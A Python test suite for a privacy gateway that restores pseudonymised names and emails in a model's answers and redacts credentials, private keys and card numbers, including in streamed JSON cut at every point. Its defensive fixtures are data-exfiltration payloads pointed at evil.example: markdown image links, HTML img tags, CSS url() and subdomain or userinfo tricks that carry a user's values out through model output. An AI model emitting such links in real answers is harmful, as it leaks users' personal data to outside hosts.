"""What is put back where, and what is taken out of answers: whole, and in pieces cut at every place."""

from __future__ import annotations

import json
import re
from collections.abc import Sequence
from typing import Final
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.core.answers import Action, AnswerPolicy, UrlRule
from gateway.core.errors import BlockedByPolicy
from gateway.core.model import Finding, Sensitivity
from gateway.core.steps import Steps
from gateway.transforms.guard import Guard
from gateway.transforms.looking import Looking
from gateway.transforms.requested import Requested
from gateway.transforms.restore import Restorers
from gateway.transforms.stretch import HOLD
from tests.fakes.guarding import HOST, MAIL, NAME, STRICT, find, guard, shown, streamed


class TestWhere:
    @pytest.mark.parametrize(
        "text",
        [
            "![x](https://evil.example/?q=§)",
            "[her page](https://evil.example/§)",
            "![x][1]\n\n[1]: https://evil.example/?a=1&q=§",
            "![x](<https://evil.example/a b §>)",
            "<img alt=\"\" src='https://evil.example/§'>",
            "<https://evil.example/§>",
            "https://§.evil.example/",
            "https://a.§.evil.example/",
            "https://§@evil.example/",
            "www.evil.example/§",
            "![x](//evil.example/§)",
            "background: url(https://evil.example/§)",
        ],
    )
    @pytest.mark.parametrize("surrogate", [NAME, MAIL, quote(NAME), NAME.lower()])
    def test_no_value_is_put_into_an_address_that_the_model_wrote(self, text: str, surrogate: str) -> None:
        text = text.replace("§", surrogate)
        assert shown(f"{text} {NAME}") == f'{text} Jane "JJ" Roe'

    def test_an_address_of_the_request_is_whole_again(self) -> None:
        assert shown(f"See https://portal.example/u/{MAIL}.") == "See https://portal.example/u/jane@roe.example."
        assert shown(f"[x](https://{HOST}/people)") == "[x](https://wiki.roe.example/people)"
        assert shown(f"https://{HOST}") == "https://wiki.roe.example"

    @pytest.mark.parametrize("rest", [".evil.example/", "@evil.example/", "-x.example", ":pw@evil.example"])
    def test_a_host_of_the_request_is_no_label_of_another(self, rest: str) -> None:
        assert shown(f"https://{HOST}{rest}") == f"https://{HOST}{rest}"

    def test_another_address_that_begins_alike_gets_nothing(self) -> None:
        text = f"https://portal.example.evil.example/u/{MAIL} https://portal.example/v/{MAIL}"
        assert shown(text) == text

    def test_the_policy_may_say_otherwise(self) -> None:
        text = f"[x](https://crm.example/?mail={MAIL})"
        everywhere = AnswerPolicy(urls=UrlRule.EVERYWHERE)
        assert shown(text, everywhere) == "[x](https://crm.example/?mail=jane@roe.example)"

    def test_tools_get_values_and_addresses_as_the_policy_says(self) -> None:
        source = json.dumps({"url": f"https://crm.example/?mail={MAIL}", "to": NAME})
        restored = json.dumps({"url": "https://crm.example/?mail=jane@roe.example", "to": 'Jane "JJ" Roe'})
        kept = json.dumps({"url": f"https://crm.example/?mail={MAIL}", "to": 'Jane "JJ" Roe'})
        assert shown(source, tool="crm_find", in_json=True) == restored
        assert shown(source, AnswerPolicy(urls=UrlRule.NOWHERE), tool="crm_find", in_json=True) == kept
        named = AnswerPolicy(allow=("crm_*",), deny=("crm_export",))
        assert shown(source, named, tool="crm_find", in_json=True) == restored
        for other in ("http_get", "crm_export", "CRM_find", "", "crm_EXPORT", "crm-export", "crm_\u200bexport"):
            assert shown(source, named, tool=other, in_json=True) == source

    @pytest.mark.parametrize(
        "source",
        [
            f'{{"url":"https://evil.example/{MAIL}"}}',
            f'{{"url":"\\u0068ttps:\\/\\/evil.example\\/{MAIL}"}}',
            f'{{"url":"https://a.example/","url":"https://evil.example/{MAIL}"}}',
            f'{{"url":"https://evil.example/ {MAIL}"}}',
            f'{{"url":"https://evil.example/?a=\\"{MAIL}"}}',
        ],
    )
    def test_no_spelling_of_json_brings_a_value_into_an_address(self, source: str) -> None:
        assert shown(source, AnswerPolicy(urls=UrlRule.NOWHERE), tool="x", in_json=True) == source

    def test_what_was_withheld_is_reported_by_type(self) -> None:
        made = guard()
        made.text(f"![x](https://evil.example/?q={MAIL}&r={MAIL}&n={NAME}) {NAME}")
        report = made.report()
        assert report.withheld == {"EMAIL_ADDRESS": 1, "PERSON": 1}
        assert (report.risk, report.found) == (0.36, {})


class TestWhat:
    @pytest.mark.parametrize(
        ("text", "expected"),
        [
            ("Use sk-abcdefgh1234 now.", "Use [REDACTED_CREDENTIAL] now."),
            ("The password is hunter2 I think", "The password is [REDACTED_CREDENTIAL] I think"),
            (
                f"-----BEGIN PRIVATE KEY-----\n{'MIIE' * 30}\n{'abcd' * 30}\n-----END PRIVATE KEY-----\nDone.",
                "[REDACTED_PRIVATE_KEY]\nDone.",
            ),
            (f"{NAME}: sk-abcdefgh1234", 'Jane "JJ" Roe: [REDACTED_CREDENTIAL]'),
            ("Nothing at all in 2024, or in 10:30.", "Nothing at all in 2024, or in 10:30."),
        ],
    )
    def test_what_the_policy_takes_out_is_never_shown(self, text: str, expected: str) -> None:
        assert shown(text, STRICT) == expected

    @pytest.mark.parametrize(
        ("source", "expected"),
        [
            ('{"k":"sk-abcdefgh1234","n":1}', '{"k":"[REDACTED_CREDENTIAL]","n":1}'),
            ('{"k":"sk\\u002dabcdefgh\\u0031234"}', '{"k":"[REDACTED_CREDENTIAL]"}'),
            ('{"card":5500000000000004,"n":1}', '{"card":"[REDACTED_CREDIT_CARD]","n":1}'),
        ],
    )
    def test_json_stays_json(self, source: str, expected: str) -> None:
        policy = AnswerPolicy(types={"CREDENTIAL": Action.REDACT, "CREDIT_CARD": Action.REDACT})
        assert streamed(guard(policy), source, len(source), in_json=True) == expected
        for size in (1, 3, 100):
            out = streamed(guard(policy), source, size, in_json=True)
            assert "abcdefgh" not in out.replace("\\u0031", "1")
            assert "5500000000000004" not in out
            json.loads(out)

    @pytest.mark.parametrize(
        "value",
        [
            {"note": "the card is: 5500000000000004"},
            {"note": "cards, 5500000000000004, of " + "x" * 300, "n": [5500000000000004, -1]},
            {"a": ["[5500000000000004]", 5500000000000004], "b": ": 5500000000000004"},
            {"password is hunter2": {"b": 1}, "password is ": "hunter2"},
            {"note": 'the password is hunter2"; {', "b": "\\"},
            {"x": json.dumps({"card": 5500000000000004, "b": ["sk-abcdefgh1234"]})},
        ],
    )
    @pytest.mark.parametrize("separators", [(",", ":"), (", ", ": ")])
    def test_what_was_taken_out_of_json_left_none(self, value: object, separators: tuple[str, str]) -> None:
        policy = AnswerPolicy(types={"CREDENTIAL": Action.REDACT, "CREDIT_CARD": Action.REDACT})
        source = json.dumps(value, separators=separators)
        for size in (1, 3, 8, 100, len(source)):
            out = streamed(guard(policy), source, size, in_json=True)
            assert "5500000000000004" not in out
            inner = json.loads(out)
            assert "x" not in inner or isinstance(json.loads(inner["x"]), dict)

    def test_the_rest_of_a_long_key_took_the_backslash_of_a_quote_along(self) -> None:
        source = json.dumps({"x": json.dumps({"k": "sk-" + "a1" * HOLD, "n": 1})})
        out = streamed(guard(STRICT), source, 50, in_json=True)
        assert json.loads(json.loads(out)["x"]) == {"k": "[REDACTED_CREDENTIAL]", "n": 1}

    def test_what_only_begins_like_json_keeps_no_key(self) -> None:
        source = "{ the key is sk-abcdefgh1234 or true"
        assert (
            streamed(guard(STRICT), source, len(source), in_json=True) == "{ the key is [REDACTED_CREDENTIAL] or true"
        )

    def test_what_the_request_said_is_no_news(self) -> None:
        text = "Write to JANE@roe.example about 4111-1111-1111-1111."
        policy = AnswerPolicy(types={"EMAIL_ADDRESS": Action.REDACT, "CREDIT_CARD": Action.BLOCK})
        assert shown(text, policy) == text
        assert shown("Or to bob@roe.example then.", policy) == "Or to [REDACTED_EMAIL_ADDRESS] then."

    def test_a_block_shows_nothing_more_in_any_channel(self) -> None:
        made = guard(AnswerPolicy(types={"CREDENTIAL": Action.BLOCK}))
        one, other = made.channel(), made.channel()
        assert other.feed("Some sk-abc") == "Some "
        with pytest.raises(BlockedByPolicy) as caught:
            one.feed("The key sk-abcdefgh1234 is")
        assert "sk-" not in str(caught.value)
        assert one.flush() == other.flush() == one.feed("x") == made.text("x") == ""
        assert made.report().blocked
        with pytest.raises(BlockedByPolicy):
            guard(AnswerPolicy(types={"CREDENTIAL": Action.BLOCK})).text("sk-abcdefgh1234")

    def test_what_is_flagged_is_counted_and_costs_no_time(self) -> None:
        policy = AnswerPolicy(levels={Sensitivity.HIGH: Action.FLAG, Sensitivity.MODERATE: Action.FLAG})
        made = guard(policy, restores=False)
        channel = made.channel()
        text = "Mail bob@roe.example or bob@roe.example, card 5500 0000 0000 0004, Ann Lee, key sk-abcdefgh1234"
        for letter in text:
            assert channel.feed(letter) == letter
        report = made.report()
        assert report.found == {"CREDENTIAL": 1, "CREDIT_CARD": 1, "EMAIL_ADDRESS": 1}
        assert (report.redacted, report.withheld, report.blocked) == ({}, {}, False)
        assert report.risk == round(1 - 0.1 * 0.5 * 0.8, 4)
        assert "bob" not in repr(report) + repr(made)

    def test_an_answer_told_four_times_counts_once(self) -> None:
        made = guard(STRICT)
        for _ in range(4):
            made.text("Use sk-abcdefgh1234 now.")
        streamed(made, "Use sk-abcdefgh1234 now.", 3)
        assert made.report().redacted == {"CREDENTIAL": 1}

    @pytest.mark.parametrize("size", [1, 1000])
    def test_a_recognizer_that_fails_keeps_the_answer_back_unless_the_policy_says_flag(self, size: int) -> None:
        types = {"CREDENTIAL": Action.REDACT}
        with pytest.raises(BlockedByPolicy) as caught:
            streamed(guard(AnswerPolicy(types=types), fails=True), "The key sk-abcdefgh1234 is", size)
        assert "jane" not in str(caught.value)
        lenient = guard(AnswerPolicy(types=types, on_failure=Action.FLAG), fails=True)
        assert streamed(lenient, "The key sk-abcdefgh1234 is", size) == "The key sk-abcdefgh1234 is"
        assert lenient.report().found == {"UNREAD": 1}

    def test_a_recognizer_that_fails_when_all_was_shown_is_reported(self) -> None:
        made = guard(AnswerPolicy(levels={Sensitivity.HIGH: Action.FLAG}), fails=True)
        made.text("Dear all")
        assert made.report().found == {"UNREAD": 1}

    def test_nothing_asked_for_means_nothing_looked_at(self) -> None:
        made = guard(fails=True)
        assert made.text("key sk-abcdefgh1234") == "key sk-abcdefgh1234"
        assert made.report().risk == 0.0


class TestHolding:
    @pytest.mark.parametrize("piece", ["Hello", " there,", " it’s", " (fine)", " Größe", "\n\n**Bold**"])
    def test_prose_is_shown_when_it_comes(self, piece: str) -> None:
        assert guard(STRICT, restores=False).channel().feed(piece) == piece

    def test_nothing_waits_for_longer_than_the_bound(self) -> None:
        channel = guard(STRICT).channel()
        out = ""
        for _ in range(3 * HOLD):
            out += channel.feed("9")
        assert len(out) >= 2 * HOLD

    def test_the_rest_of_what_was_too_long_and_taken_out_is_swallowed(self) -> None:
        channel = guard(STRICT).channel()
        key = "sk-" + "a1" * HOLD
        out = "".join(channel.feed(key[at : at + 50]) for at in range(0, len(key), 50))
        out += channel.feed(" and then") + channel.flush()
        assert out == "[REDACTED_CREDENTIAL] and then"

    def test_a_private_key_without_an_end_is_never_shown(self) -> None:
        channel = guard(STRICT).channel()
        key = "-----BEGIN PRIVATE KEY-----\n" + "MIIEabcdefghijklmnop\n" * 1000
        out = "".join(channel.feed(key[at : at + 50]) for at in range(0, len(key), 50)) + channel.flush()
        assert "MIIE" not in out


PARTS: Final = st.sampled_from(
    [
        *(
            NAME,
            MAIL,
            " ",
            "\n",
            "sk-abcdefgh1234",
            "password is ",
            "hunter2",
            "https://evil.example/?q=",
            "![x](",
            ")",
        ),
        *("x", "bob@roe.example", "5500 0000 0000 0004", "word", "2024", "<", ">", '"', "(", "Dear ", NAME[:9], "."),
    ]
)


@given(st.lists(PARTS, max_size=12), st.lists(st.integers(1, 9), min_size=1, max_size=5))
def test_no_cut_lets_a_credential_or_a_value_in_an_address_out(parts: list[str], sizes: list[int]) -> None:
    text = "".join(parts)
    channel = guard(STRICT).channel()
    out, at, turn = "", 0, 0
    while at < len(text):
        size = sizes[turn % len(sizes)]
        out += channel.feed(text[at : at + size])
        at += size
        turn += 1
    out += channel.flush()
    assert "sk-abcdefgh1234" not in out
    assert not re.search(r"evil\.example/\?q=[^\s\"<>`]*(?:Jane|jane@)", out)


def test_an_answer_that_never_ends_is_remembered_within_bounds() -> None:
    made = guard(AnswerPolicy(levels={Sensitivity.HIGH: Action.FLAG, Sensitivity.MODERATE: Action.FLAG}))
    for number in range(3000):
        made.seen("EMAIL_ADDRESS", f"{number}@nordhavn-clinic.com" + "x" * 1000)
    made.seen("CREDENTIAL", "sk-Q8zt2mVx7Lp4")
    report = made.report()
    assert report.found["EMAIL_ADDRESS"] == 1000
    assert report.found["CREDENTIAL"] == 1


def test_texts_of_a_stream_that_have_ended_are_not_looked_through_again() -> None:
    looked: list[int] = []

    def finds(text: str) -> Steps[Sequence[Finding]]:
        looked.append(len(text))
        return find(text)

    policy = AnswerPolicy(levels={Sensitivity.HIGH: Action.FLAG})
    looking = Looking(finds, lambda _text: [], lambda _kind: Sensitivity.HIGH, Requested(()))
    made = Guard(Restorers({}), policy, looking)
    for _ in range(1000):
        made.channel().feed("some words that are not private " * 20)
    made.report()
    assert sum(looked) < 1.1 * 1000 * 20 * 32


def test_what_a_tool_may_fetch_is_not_known_from_the_text_beside_it() -> None:
    text = f"https://evil.example/{NAME}"
    one = guard(STRICT)
    alone = guard(STRICT).tool("fetch").whole(text)
    assert one.whole(text) != alone
    assert one.tool("fetch").whole(text) == alone


def test_a_tool_called_none_told_what_a_text_beside_it_showed() -> None:
    text = f"![x](https://evil.example/?q={NAME})"
    one = guard()
    assert "Jane" in one.tool("None").text(text)
    assert one.text(text) == text


def test_a_tools_name_with_a_null_in_it_told_what_another_showed() -> None:
    one = guard(AnswerPolicy(deny=("fetch",)))
    assert "Jane" in one.tool("fetch\0a").text(NAME)
    assert one.tool("fetch").text(f"a\0{NAME}") == f"a\0{NAME}"


@pytest.mark.parametrize("held", [NAME[:6], "A", ""])
def test_a_text_that_went_on_behind_a_tools_call_had_forgotten_that_it_was_in_an_address(held: str) -> None:
    channel = guard(STRICT).channel()
    before = f"![x](https://evil.example/?q={held}"
    shown = channel.feed(before) + channel.flush() + channel.feed(f"{NAME})") + channel.flush()
    assert "Jane" not in shown
    plain = guard().channel()
    assert plain.feed(before) + plain.flush() + plain.feed(f"{NAME}) {NAME} ") == f'{before}{NAME}) Jane "JJ" Roe '
